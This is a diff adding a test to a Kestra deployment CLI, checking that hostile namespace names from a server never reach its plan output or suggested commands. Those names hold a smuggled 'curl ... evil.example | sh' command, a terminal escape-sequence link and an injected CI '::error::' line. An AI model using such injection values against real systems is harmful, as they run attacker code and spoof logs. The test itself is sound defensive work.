@@ -110,3 +110,31 @@ def test_pulled_files_get_the_usual_permissions(tmp_path):
     assert r.returncode == 0, r.stderr
     mode = stat.S_IMODE((tmp_path / "flows/acme/fine.yml").stat().st_mode)
     assert mode == 0o644, oct(mode)  # was 0600 (tempfile.mkstemp)
+
+
+def test_namespace_names_a_server_lists_never_reach_the_plan_or_a_suggested_command(tmp_path):
+    """`plan --delete` names the server's namespaces outside git, with a command to retire one:
+    a name Kestra would refuse (a shell command, an escape sequence, a line that a CI log reads
+    as a workflow command) is a listing that cannot be trusted, never a line of the plan."""
+    (tmp_path / "flows").mkdir()
+    (tmp_path / "flows" / "acme.etl.yml").write_text(
+        crafted_flow("acme", "etl")["source"], encoding="utf-8"
+    )
+    hostile = [
+        "acme",
+        "acme.x;curl${IFS}evil.example|sh",
+        "acme.y\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
+        "acme.z\n::error::pwned",
+    ]
+    with CraftedKestra([crafted_flow("acme", "etl")], namespaces=hostile) as server:
+        for fmt in ("text", "json", "markdown"):
+            done = run_cli(
+                "plan", "flows", "--server", server.url, "--kestra-version", "1.0",
+                "--delete", "--format", fmt, cwd=tmp_path,
+            )  # fmt: skip
+            assert done.returncode == 0, done.stdout + done.stderr
+            out = done.stdout + done.stderr
+            for bad in ("curl", "evil.example", "pwned", "\x1b"):
+                assert bad not in out, (fmt, out)
+            assert "could not list the server's namespaces" in done.stderr
+        assert server.writes() == []
